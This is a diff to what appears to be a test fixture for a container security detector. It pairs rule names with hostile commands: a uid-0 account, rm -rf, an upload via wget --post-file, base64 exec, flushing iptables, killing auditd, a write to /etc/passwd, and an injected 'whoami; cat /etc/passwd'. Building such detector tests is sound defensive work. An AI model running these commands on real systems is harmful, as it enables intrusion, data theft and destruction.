@@ -29,11 +29,33 @@ _WX, _PRIVATE_ANONYMOUS = 7, 34
 _MMAP, _PTRACE_CALL, _BPF, _USERFAULTFD = 9, 101, 321, 323  # x86-64
 _PROG_LOAD, _ATTACH = 5, 16
 
-NAMED = ("kubectl", "apk", "ssh", "gdb", "nmap", "insmod", "xmrig")
+NAMED = ("kubectl", "apk", "ssh", "gdb", "nmap", "insmod", "xmrig", "iptables", "openssl", "useradd")
 ACTING = ("python3", "perl")
 CGI = {"look": "whoami; cat /etc/passwd"}
 
 ACTS: Mapping[str, Act] = {
+    "account-made": Act("useradd -o -u 0 eve; true"),
+    "data-destroyed-by-command": Act(("rm", "-rf", "/var/lib/redis")),
+    "dns-abused-service": Act("nslookup a1.ngrok-free.app 127.0.0.1; true"),
+    "dns-tunnel-name": Act("nslookup " + "a0" * 25 + ".t.example.com 127.0.0.1; true"),
+    "file-time-forged": Act(("touch", "-t", "202001010000", "/tmp/old")),
+    "file-uploaded-by-tool": Act(("wget", "-q", "--post-file", "/etc/hostname", "http://127.0.0.1:1/")),
+    "files-encrypted-by-tool": Act(("openssl", "enc", "-aes-256-cbc", "-in", "/srv/a", "-out", "/srv/a.enc")),
+    "hidden-program-run": Act("mkdir -p /tmp/.h && cp /bin/busybox /tmp/.h/busybox && /tmp/.h/busybox true"),
+    "interpreter-runs-hidden-code": Act(("python3", "-c", "import base64;exec(base64.b64decode('cGFzcw=='))")),
+    "interpreter-start-file-write": Act("echo x > /srv/sitecustomize.py"),
+    "login-configuration-write": Act("mkdir -p /etc/pam.d && echo x > /etc/pam.d/sshd"),
+    "mail-sent-directly": Act(("nc", OUTSIDE, "25")),
+    "node-control-port-connect": Act(("nc", OUTSIDE, "10250")),
+    "packet-filter-changed": Act(("iptables", "-F")),
+    "privileged-file-search": Act(("find", "/tmp", "-perm", "-4000")),
+    "process-environment-read": Act(("cat", "/proc/1/environ")),
+    "proxy-network-connect": Act(("nc", OUTSIDE, "9001")),
+    "ransom-note-write": Act("echo x > /srv/HOW_TO_DECRYPT_FILES.txt"),
+    "secret-search": Act("grep -ri password /srv; true"),
+    "security-tool-stopped": Act("env killall auditd; true"),
+    "sensitive-data-archived": Act(("tar", "-cf", "/tmp/all.tar", "/etc/passwd", "/root")),
+    "ssh-from-container": Act(("ssh", "root@10.9.8.7")),
     "account-file-write": Act("echo x:x:0:0::/:/bin/sh >> /etc/passwd"),
     "bpf-from-container": Act(("/bin/act", "call", f"{_BPF}", f"{_PROG_LOAD}", "0", "0"), _ADMIN),
     "cloud-metadata-command": Act(": http://169.254.169.254/latest/meta-data"),
